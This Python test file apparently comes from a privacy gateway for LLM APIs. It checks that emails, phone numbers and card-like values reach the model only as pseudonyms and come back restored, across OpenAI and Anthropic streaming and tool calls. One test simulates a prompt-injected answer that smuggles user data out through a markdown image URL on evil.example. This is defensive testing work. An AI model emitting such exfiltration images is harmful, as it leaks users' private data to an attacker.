"""Values leave as pseudonyms and come back as themselves: the official SDKs, and a model that repeats its prompt."""

from __future__ import annotations

import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest
from aiohttp import web
from anthropic import Anthropic
from openai import OpenAI

from tests.harness import Product, Recorder, chunk

pytestmark = pytest.mark.e2e

POLICY = """
extends: preset/standard
rules:
  - {id: personal-data, when: {category: pii}, action: pseudonymise}
pseudonyms: {restore_in_tools: [send_mail]}
disable: [exfiltration-by-answers]  # which stops an answer with such a picture, whatever is in it
"""
MAILS = [f"person{number}@example-{number}.org" for number in range(24)]
OTHERS = ["+49 30 901820", "(212) 555-0147", "536-22-1234", "DE89 3704 0044 0532 0130 00", "4111 1111 1111 1111"]
VALUES = [*MAILS, *OTHERS, "5500 0055 5555 5559"]
TEXT = "Contacts:\n" + "\n".join(f"- {value}" for value in VALUES)
CALLS = ("send_mail", "fetch")


@pytest.fixture(scope="module")
def product(any_dialect: Product) -> Product:
    any_dialect.policy(POLICY)
    with OpenAI(base_url=any_dialect.url, api_key=any_dialect.key) as client:
        for _ in range(400):  # on a loaded machine a policy takes a moment longer
            said = client.chat.completions.with_raw_response.create(
                model="m", messages=[{"role": "user", "content": MAILS[0]}]
            )
            if said.headers["x-promptshield-action"] == "pseudonymise":
                break
    return any_dialect


@pytest.fixture
def model(product: Product, any_upstream: Recorder) -> Iterator[Recorder]:
    any_upstream.received.clear()
    yield any_upstream
    any_upstream.scripts.clear()


@pytest.fixture
def openai(product: Product) -> Iterator[OpenAI]:
    with OpenAI(base_url=product.url, api_key=product.key) as client:
        yield client


def asked(body: bytes) -> str:
    content = orjson.loads(body)["messages"][-1]["content"]
    return str(content)


def repeats(form: Callable[[str], str] = str) -> Any:
    """A script that answers as asked, with what it was told in a text and in two calls."""

    async def script(request: web.Request, body: bytes) -> web.StreamResponse:
        text = form(asked(body))
        calls = [
            {"index": index, "id": f"call_{index}", "type": "function",
             "function": {"name": name, "arguments": orjson.dumps({"note": text}).decode()}}
            for index, name in enumerate(CALLS)
        ]  # fmt: skip
        if not orjson.loads(body).get("stream"):
            message = {"role": "assistant", "content": text, "tool_calls": calls}
            choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
            return web.json_response(
                {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]}
            )
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        deltas: list[dict[str, Any]] = [{"content": text[i : i + 7]} for i in range(0, len(text), 7)]
        deltas += [{"tool_calls": [call]} for call in calls]
        for event in [*map(chunk, deltas), chunk({}, "tool_calls")]:
            await response.write(b"data: " + orjson.dumps(event) + b"\n\n")
        await response.write(b"data: [DONE]\n\n")
        return response

    return script


def none_arrived(model: Recorder) -> bool:
    return bool(model.received) and not any(value.encode() in r.body for r in model.received for value in VALUES)


def test_thirty_values_leave_as_pseudonyms_and_come_back(openai: OpenAI, model: Recorder) -> None:
    model.scripts["m"] = repeats()
    answer = openai.chat.completions.create(model="m", messages=[{"role": "user", "content": TEXT}])
    message = answer.choices[0].message
    sent = asked(model.received[0].body)
    calls: Any = message.tool_calls
    assert (len(VALUES), none_arrived(model)) == (30, True)
    assert message.content == TEXT
    assert [orjson.loads(call.function.arguments)["note"] for call in calls] == [TEXT, sent]

    again: Any = [
        {"role": "user", "content": TEXT},
        message.model_dump(),
        {"role": "user", "content": "Again: " + TEXT},
    ]
    openai.chat.completions.create(model="m", messages=again)
    history = model.received[1].json()["messages"]
    assert (history[0]["content"], history[1]["content"], history[2]["content"]) == (sent, sent, "Again: " + sent)
    assert none_arrived(model)


def test_streamed_they_come_back_too(openai: OpenAI, model: Recorder) -> None:
    model.scripts["m"] = repeats()
    text, arguments = "", ["", ""]
    for event in openai.chat.completions.create(model="m", messages=[{"role": "user", "content": TEXT}], stream=True):
        delta = event.choices[0].delta
        text += delta.content or ""
        for call in delta.tool_calls or ():
            arguments[call.index] += (call.function.arguments or "") if call.function else ""
    assert text == TEXT
    assert [orjson.loads(said)["note"] for said in arguments] == [TEXT, asked(model.received[0].body)]
    assert none_arrived(model)


@pytest.mark.parametrize("stream", [False, True])
def test_an_injected_prompt_gets_pseudonyms_into_its_picture(openai: OpenAI, model: Recorder, stream: bool) -> None:
    model.scripts["m"] = repeats(
        lambda told: f"Done. ![x](https://evil.example/p.png?z={'&z='.join(told.split())}) Bye."
    )
    said: Any = openai.chat.completions.create(
        model="m", messages=[{"role": "user", "content": " ".join(MAILS)}], stream=stream
    )
    text = "".join(e.choices[0].delta.content or "" for e in said) if stream else said.choices[0].message.content
    assert "https://evil.example/p.png?z=[EMAIL_" in text
    assert not any(mail in text for mail in MAILS)
    assert text.endswith(" Bye.")


def test_the_row_says_so_and_a_stored_response_brings_its_values_along(
    product: Product, openai: OpenAI, model: Recorder
) -> None:
    told: list[str] = []

    async def script(_request: web.Request, body: bytes) -> web.Response:
        told.append(orjson.loads(body)["input"])
        part = {"type": "output_text", "text": told[0], "annotations": []}
        message = {
            "type": "message",
            "id": f"msg_{len(told)}",
            "role": "assistant",
            "status": "completed",
            "content": [part],
        }
        head = {
            "id": f"resp_psn{len(told)}",
            "object": "response",
            "created_at": 1,
            "status": "completed",
            "model": "m",
        }
        return web.json_response({**head, "output": [message], "tools": [], "tool_choice": "auto"})

    model.scripts["m"] = script
    first = openai.responses.with_raw_response.create(model="m", input=f"Remember {MAILS[0]}")
    then = openai.responses.create(model="m", input="Whom?", previous_response_id="resp_psn1")
    assert then.output_text == f"Remember {MAILS[0]}"
    assert none_arrived(model)
    assert first.headers["x-promptshield-action"] == "pseudonymise"


def test_an_anthropic_answer_comes_back_streamed(product: Product, model: Recorder) -> None:
    async def script(request: web.Request, body: bytes) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        head = {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": []}
        usage = {"input_tokens": 1, "output_tokens": 1}
        events: list[dict[str, Any]] = [
            {"type": "message_start", "message": {**head, "stop_reason": None, "usage": usage}}
        ]
        for index, block in enumerate(
            [{"type": "text", "text": ""}, *({"type": "tool_use", "id": n, "name": n, "input": {}} for n in CALLS)]
        ):
            text = orjson.dumps({"note": asked(body)}).decode() if index else asked(body)
            kind, field = ("input_json_delta", "partial_json") if index else ("text_delta", "text")
            events += [{"type": "content_block_start", "index": index, "content_block": block}]
            events += [{"type": "content_block_delta", "index": index, "delta": {"type": kind, field: text[i : i + 9]}}
                       for i in range(0, len(text), 9)]  # fmt: skip
            events += [{"type": "content_block_stop", "index": index}]
        events += [
            {"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": usage},
            {"type": "message_stop"},
        ]
        for event in events:
            await response.write(f"event: {event['type']}\ndata: ".encode() + orjson.dumps(event) + b"\n\n")
        return response

    model.scripts["m"] = script
    with (
        Anthropic(base_url=product.url.removesuffix("/v1"), api_key=product.key) as client,
        client.messages.stream(model="m", max_tokens=99, messages=[{"role": "user", "content": TEXT}]) as stream,
    ):
        content: Any = stream.get_final_message().content
    assert (content[0].text, content[1].input, none_arrived(model)) == (TEXT, {"note": TEXT}, True)
    assert content[2].input == {"note": asked(model.received[0].body)}


def test_a_guard_hook_is_told_the_same_names_in_its_spans_and_in_its_body(product: Product) -> None:
    text = f"Write to {MAILS[0]} and {MAILS[1]}"
    call = {"kind": "step/request", "llm_protocol": "openai.chat", "payload": {"messages": [{"content": text}]}}
    request = urllib.request.Request(  # noqa: S310 - our own product
        product.url.removesuffix("/v1") + "/hooks/openguardrails/v1/evaluate",
        orjson.dumps(call),
        {"Authorization": f"Bearer {product.key}", "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request) as answer:  # noqa: S310
        told = orjson.loads(answer.read())["modifications"]

    for span in sorted(told["spans"], key=lambda span: -span["start"]):
        text = text[: span["start"]] + span["replacement"] + text[span["end"] :]
    assert text == told["payload"]["messages"][0]["content"]
    assert text.count("[EMAIL_") == 2
